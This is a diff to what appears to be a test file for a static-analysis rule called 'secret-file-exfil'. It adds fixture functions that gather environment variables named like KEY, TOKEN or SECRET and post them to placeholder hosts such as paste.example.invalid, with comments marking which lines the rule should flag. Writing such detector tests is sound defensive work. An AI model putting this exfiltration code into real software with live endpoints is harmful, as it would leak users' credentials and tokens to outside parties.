@@ -30,3 +30,27 @@ requests.post("https://example.invalid/n", data=npm)
 lang = os.environ.get("LANG")
 # ok: secret-file-exfil
 requests.post("https://example.invalid/l", data=lang)
+
+
+def leak_keys():
+    import urllib.parse
+    import urllib.request
+
+    maybe_keys = [key for key in os.environ if "KEY" in key.upper()]
+    for name in maybe_keys:
+        body = urllib.parse.urlencode({"paste_code": os.environ[name], "paste_name": name}).encode()
+        # ruleid: secret-file-exfil
+        urllib.request.urlopen("https://paste.example.invalid/api_post", data=body)
+
+
+def leak_tokens():
+    tokens = {k: v for k, v in os.environ.items() if "TOKEN" in k or "SECRET" in k}
+    # ruleid: secret-file-exfil
+    requests.post("https://example.invalid/t", json=tokens)
+
+
+def report_config():
+    # the secrets are dropped, not kept: what is sent is the rest of the environment's names
+    safe = [k for k in os.environ if "SECRET" not in k]
+    # ok: secret-file-exfil
+    requests.post("https://example.invalid/config", json=safe)
